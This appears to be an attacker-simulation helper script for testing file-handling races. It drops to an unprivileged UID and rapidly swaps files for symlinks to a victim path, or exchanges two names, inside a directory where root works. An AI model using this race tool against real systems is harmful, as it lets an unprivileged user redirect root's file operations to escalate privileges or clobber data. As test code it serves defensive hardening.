/**
 * A user who owns the directory in which root works, as fast as it can:
 *
 * `node attacker.mjs replace UID DIRECTORY PATTERN VICTIM` puts a link to the victim in the place of every name that matches;
 * `node attacker.mjs exchange UID DIRECTORY ONE OTHER` exchanges two names.
 */
import { readdirSync, renameSync, symlinkSync } from 'node:fs';

const [action, uid, directory, first, second] = process.argv.slice(2) as [string, string, string, string, string];
process.setgroups?.([]);
process.setgid?.(Number(uid));
process.setuid?.(Number(uid));
process.chdir(directory);

let swapped = 0;
process.on('SIGTERM', () => {
  console.log(swapped);
  process.exit(0);
});

function replace(): void {
  for (const name of readdirSync('.')) {
    if (!new RegExp(first).test(name)) continue;
    renameSync(name, `taken${swapped}`);
    symlinkSync(second, name);
    swapped++;
  }
}

function exchange(): void {
  renameSync(first, 'between');
  renameSync(second, first);
  renameSync('between', second);
  swapped++;
}

function round(): void {
  for (let i = 0; i < 50; i++) {
    try {
      if (action === 'replace') replace();
      else exchange();
    } catch {
      // It went away by itself, or stands there again.
      if (action === 'exchange') putBack();
    }
  }
  setImmediate(round);
}

/** The name that a run has made again meanwhile keeps the place that is free. */
function putBack(): void {
  for (const to of [first, second]) {
    try {
      renameSync('between', to);
    } catch {
      // nothing is between
    }
  }
}
console.log('ready');
round();
